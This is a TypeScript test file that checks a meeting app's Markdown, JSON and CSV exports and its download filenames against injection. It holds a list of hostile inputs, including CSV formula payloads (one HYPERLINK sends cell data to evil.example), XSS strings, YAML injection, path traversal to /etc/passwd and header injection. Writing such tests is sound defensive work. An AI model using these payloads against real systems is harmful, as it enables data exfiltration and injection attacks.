import { randomUUID } from 'node:crypto';
import { recordExportSchema } from '@parley/shared/exports';
import { parse as parseCsv } from 'csv-parse/sync';
import { fromMarkdown } from 'mdast-util-from-markdown';
import { Types } from 'mongoose';
import { expect } from 'vitest';
import { parseAllDocuments } from 'yaml';
import { test } from '../platform/testing/parley-test';
import { makeRoom } from '../platform/testing/rest';
import type { TestApp, TestUser } from '../platform/testing/test-app';

/*
 * Names and texts that try to become structure, written into the database directly: input is cleaned
 * on its way in, and a file must not rely on that. Each is read back with a real parser.
 */

/** What a line of text may try to be. Each contains `X`, by which the tests find it again. */
const HOSTILE_LINES = [
  '=HYPERLINK("https://evil.example/?"&A1,"X")',
  '+X',
  '-X',
  '@X',
  '\tX',
  '\r=X',
  '\n=X',
  ' =X',
  '"=X',
  "'=X",
  '＝X',
  "=X|' /C calc'!A0",
  'X"\r\n"=1+1","',
  'X",=1+1,"',
  'X;=1+1',
  '---X',
  'X\n---\ninjected: true\n---\n',
  'X: {a: b}',
  '"X\\',
  'X # comment',
  '*X',
  '&X',
  '!X',
  'X\u0085injected: 1',
  'X\u2028injected: 1',
  '# X',
  '## X\n# Y',
  '- X',
  '1. X',
  '1) X',
  '> X',
  '+ X',
  'X\n===',
  'X\n---',
  '```X',
  '~~~X',
  '    X',
  '`X`',
  '**X**',
  '_X_',
  '~~X~~',
  '$X$',
  '$$X$$',
  '{.X}',
  '{% X %}',
  '[X](javascript:alert(1))',
  '![X](https://evil.example/pixel)',
  '[X]: https://evil.example',
  '<https://evil.example/X>',
  '<X@evil.example>',
  '[^X]',
  '[ ] X',
  ':::X',
  '!!! X',
  '<script>X</script>',
  '</script><script>X//',
  '<img src=x onerror=X>',
  '<!-- X',
  '<![CDATA[X',
  '&lt;X&gt;',
  '&#60;X',
  'X\\',
  '\\X',
  'X\\\\',
  '| X | Y |\n|---|---|',
  '***X***',
  'X  \nY',
  'X\n\n\nY',
  'X\n\n    Y',
  'X\n```\nY',
  'X\n- Y',
  'X\n# Y',
  '\\*X\\*',
  '\\[X](https://evil.example)',
  '\\`X\\`',
  '\u202eX',
  'X\u202e\u2066',
  '\u200fX',
  'X\u0000\u001b[31m',
  'X\u0007',
  'BEGIN:VCALENDAR X',
  'X\r\nEND:VEVENT\r\nEND:VCALENDAR',
];

/** A meeting of Ana whose names and texts are all replaced by a hostile one. */
async function plant(parley: TestApp, owner: TestUser, hostile: string): Promise<string> {
  const code = await makeRoom(parley, owner);
  const socket = await parley.connect(owner);
  const { meeting } = await socket.join(code);
  await socket.ask('chat:send', { clientId: randomUUID(), text: 'text' });
  await socket.ask('meeting:set-controls', { isLocked: true });
  await socket.ask('meeting:leave', {});
  socket.close();
  const set = async (name: string, filter: object, change: object) =>
    parley.connection.collection(name).updateMany(filter, { $set: change });
  const meetingId = new Types.ObjectId(meeting.id);
  await set('meetings', { _id: meetingId }, { 'room.name': hostile });
  await set('attendances', { meetingId }, { displayName: hostile });
  await set('messages', { meetingId }, { text: hostile, senderName: hostile });
  await set('host_actions', { meetingId }, { 'actor.displayName': hostile });
  return meeting.id;
}

const exportAs = async (parley: TestApp, { bearer }: TestUser, id: string, format: string) =>
  parley.api
    .get(`/api/meetings/${id}/export`)
    .query({ format })
    .set(...bearer)
    .expect(200);

interface Node {
  readonly type: string;
  readonly value?: string;
  readonly children?: readonly Node[];
}

const typesIn = (node: Node): string[] => [node.type, ...(node.children ?? []).flatMap(typesIn)];
const textIn = (node: Node): string =>
  node.type === 'break' ? '\n' : (node.value ?? '') + (node.children ?? []).map(textIn).join('');

/** The shape of a file: its blocks, without paragraphs' text and line breaks. */
function shapeOf(markdown: string): string[] {
  const root = fromMarkdown(markdown) as Node;
  return typesIn(root).filter((type) => type !== 'text' && type !== 'break');
}

const splitFile = (file: string): [front: string, body: string] => {
  const end = file.indexOf('\n---\n', 4);
  return [file.slice(4, end), file.slice(end + 5)];
};

test('a hostile name or text changes no structure of any export', async ({ parley, ana }) => {
  const plainId = await plant(parley, ana, 'Plain X');
  const [plainFront, plainBody] = splitFile((await exportAs(parley, ana, plainId, 'md')).text);
  const keys = Object.keys(parseAllDocuments(plainFront)[0]?.toJS() as object);
  const shape = shapeOf(plainBody);
  const wrong: string[] = [];
  for (const hostile of HOSTILE_LINES) {
    const id = await plant(parley, ana, hostile);
    const check = (what: string, isRight: boolean) => {
      if (!isRight) wrong.push(`${what}: ${JSON.stringify(hostile)}`);
    };

    const md = (await exportAs(parley, ana, id, 'md')).text;
    const [front, body] = splitFile(md);
    const documents = parseAllDocuments(front);
    check('one YAML document', documents.length === 1 && documents[0]?.errors.length === 0);
    const values = documents[0]?.toJS() as Record<string, unknown>;
    check('keys of the front matter', Object.keys(values).join() === keys.join());
    check('title as text', typeof values['title'] === 'string' && values['title'].includes('X'));
    check('blocks of the Markdown', shapeOf(body).join() === shape.join());
    check('the text is there', textIn(fromMarkdown(body)).includes('X'));
    check('no HTML', !/<\/?[a-z!]/i.test(body));
    check(
      'no control characters',
      !/[\u0000-\u0008\u000b-\u001f\u202a-\u202e\u2066-\u2069]/.test(md),
    );

    const json = (await exportAs(parley, ana, id, 'json')).text;
    const file = recordExportSchema.parse(JSON.parse(json));
    check('exact text in JSON', file.lines[0]?.text === hostile && file.lines.length === 1);

    const csv = (await exportAs(parley, ana, id, 'csv')).text;
    const rows = parseCsv(csv, { bom: true, relax_column_count: true });
    check('rows of the CSV', rows.length === 2 && rows[1]?.length === rows[0]?.length);
    const formulas = rows.flat().filter((field) => /^[\s"]*[=+\-@\t\r＝]/.test(field));
    check('no formulas', formulas.length === 0);
    check('no line breaks in fields', !rows.flat().some((field) => /[\r\n]/.test(field)));
  }
  expect(wrong).toEqual([]);
}, 120_000);

test('the file of a record with a hostile name has a harmless name', async ({ parley, ana }) => {
  for (const [hostile, name] of [
    ['../../etc/passwd', 'etc-passwd'],
    ['X"; filename=evil.exe', 'x-filename-evil-exe'],
    ['X\r\nSet-Cookie: a=b', 'x-set-cookie-a-b'],
    ['\u202etxt.exe', 'txt-exe'],
    ['///', ''],
    ['Réunion', 'réunion'],
  ] as const) {
    const id = await plant(parley, ana, hostile);
    const { headers } = await exportAs(parley, ana, id, 'json');
    const disposition = headers['content-disposition'] as string;
    const encoded = /filename\*=UTF-8''(.+)$/.exec(disposition)?.[1];
    const given =
      encoded === undefined
        ? /filename="?([^"]+)"?$/.exec(disposition)?.[1]
        : decodeURIComponent(encoded);
    expect(given?.replace(/^\d{4}-\d\d-\d\d-?/, '')).toBe(`${name}.json`);
    expect(headers['set-cookie']).toBeUndefined();
  }
});
